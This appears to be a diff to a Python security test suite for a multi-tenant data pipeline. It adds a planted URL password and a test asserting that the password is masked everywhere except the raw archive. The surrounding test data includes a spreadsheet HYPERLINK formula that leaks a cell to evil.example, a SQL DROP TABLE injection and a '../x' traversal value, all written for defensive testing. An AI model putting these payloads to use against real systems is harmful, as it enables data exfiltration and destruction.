@@ -39,6 +39,7 @@ CANARY = "whsec_" + CANARY_B64
 CANARY_SCOPE = "canary_scope_7f3a"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
 INJECTION = hostile.SQL_INJECTION
+URL_PASSWORD = "UrlPassw0rd-canary"  # noqa: S105 - planted, to be found nowhere but the raw landing archive
 
 
 def canary_needles() -> dict[str, bytes]:
@@ -103,6 +104,10 @@ def build_attack(sample, root: Path) -> dict:
         "tenant_id": (hostile.jline(hostile.delivery(2, "../x")), "invalid_identifier"),
         # free text from the tenant's endpoint, accepted as data: it must not become a spreadsheet formula
         "formula_error": (hostile.jline(hostile.delivery(3, status_code=500, error=FORMULA)), None),
+        # a password in the endpoint URL, quoted again in the error text: accepted, masked
+        "endpoint_credentials": (hostile.jline(hostile.delivery(
+            4, endpoint=f"https://ops:{URL_PASSWORD}@hooks.t_alpha.example/zentra", status_code=500,
+            error=f"POST https://ops:{URL_PASSWORD}@hooks.t_alpha.example/zentra: 500")), None),
     }
     settlements = {
         "provider_ref": (hostile.settlement(1, provider_ref="x'; DROP TABLE settlements; --"), "invalid_identifier"),
@@ -333,6 +338,29 @@ def test_database_password_is_not_echoed(sample, tmp_path):
 
 
 # ------------------------------------------------------------- isolation ---
+
+
+def test_a_password_in_an_endpoint_url_is_masked_everywhere_but_the_raw_archive(attack):
+    needle = URL_PASSWORD.encode()
+    found = [name for name in ("stdout", "stderr", "inproc_output") if needle in attack[name].encode()]
+    found += [f"event {i}" for i, text in enumerate(attack["events"] + attack["event_log"]) if URL_PASSWORD in text]
+    for packet in sorted((attack["cli_home"] / "packets").rglob("*.zip")):
+        with zipfile.ZipFile(packet) as zf:
+            found += [f"{packet.name}:{n}" for n in zf.namelist() if needle in zf.read(n)]
+    con = duckdb.connect(str(attack["cli_home"] / "warehouse.duckdb"), read_only=True)
+    try:
+        columns = con.sql("SELECT table_name, column_name FROM duckdb_columns() WHERE schema_name = 'main' "
+                          "AND data_type = 'VARCHAR' AND table_name <> 'landing_lines'").fetchall()
+        for table, column in columns:
+            hits = con.sql(f'SELECT count(*) FROM "{table}" WHERE contains("{column}", $n)',
+                           params={"n": URL_PASSWORD}).fetchall()[0][0]
+            found += [f"{table}.{column}"] * (hits > 0)
+        masked = con.sql("SELECT endpoint, error FROM deliveries WHERE delivery_id = 'dlv_hostile_000004'").fetchall()
+    finally:
+        con.close()
+    assert found == []
+    assert masked == [("https://***@hooks.t_alpha.example/zentra",
+                       "POST https://***@hooks.t_alpha.example/zentra: 500")]
 
 
 def test_a_tenant_packet_never_holds_another_tenants_rows(attack):
